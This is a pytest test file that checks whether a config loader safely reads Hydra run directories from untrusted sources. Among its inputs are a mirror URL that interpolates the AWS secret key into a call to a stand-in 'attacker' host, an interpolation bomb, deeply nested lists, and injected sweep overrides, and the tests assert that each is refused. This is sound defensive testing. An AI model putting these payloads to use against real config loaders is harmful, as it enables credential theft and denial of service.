"""A run directory that may come from elsewhere: what is taken from its config, and what is not."""

import json
from pathlib import Path

import pytest

from nnlab.run_directory import change_config, load_config, load_sweep


def run_with(folder: Path, settings: str) -> Path:
    (folder / ".hydra").mkdir()
    (folder / ".hydra" / "config.yaml").write_text(settings)
    return folder


def test_nothing_is_downloaded_for_a_saved_run(tmp_path: Path) -> None:
    address = "https://attacker/${oc.env:AWS_SECRET_ACCESS_KEY}/"
    settings = f"data: {{root: a, mirrors: ['{address}']}}\nhydra: {{a: 1}}\ndefaults: [a]\n"
    assert load_config(run_with(tmp_path, settings)) == {"data": {"root": "a", "mirrors": []}}


def test_the_data_of_a_saved_run_are_written_out(tmp_path: Path) -> None:
    run_dir = run_with(tmp_path, "data: ${theirs}\ntheirs: {mirrors: ['https://attacker/']}\n")
    with pytest.raises(ValueError, match=r"must hold data's settings as nnlab writes them, got \$"):
        load_config(run_dir)


@pytest.mark.parametrize("place", ["hydra", "threads", "data"])
def test_a_bomb_of_interpolations_is_refused_wherever_it_is(tmp_path: Path, place: str) -> None:
    bomb = "".join(f"a{i + 1}: {f'${{a{i}}}' * 10}\n" for i in range(12))
    value = "{path: '${a12}'}" if place == "data" else "${a12}"
    cfg = load_config(run_with(tmp_path, f"a0: x\n{bomb}{place}: {value}\n"))
    with pytest.raises(ValueError, match="must have at most 2000 interpolations"):
        change_config(cfg, [], allowed=[], argument="run")


def test_settings_that_are_nested_without_end_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="got lists in lists"):
        load_config(run_with(tmp_path, "a: " + "[" * 5_000 + "]" * 5_000))


@pytest.mark.parametrize(
    "word",
    [
        "data.mirrors=[https://attacker/]",
        "++data.mirrors=[https://attacker/]",
        "data={mirrors: [https://attacker/]}",
        "hydra.run.dir=.",
        "--config-dir=theirs",
    ],
)
def test_a_saved_sweep_sets_nothing_of_hydras_and_no_addresses(tmp_path: Path, word: str) -> None:
    for words, allowed in ((["model.dropout=0,0.1", "data=mnist"], True), ([word], False)):
        saved = {"hydra": {"overrides": {"task": words}}}
        (tmp_path / "multirun.yaml").write_text(json.dumps(saved))
        if allowed:
            assert load_sweep(tmp_path) == words
        else:
            with pytest.raises(ValueError, match="must hold the settings of a sweep"):
                load_sweep(tmp_path)
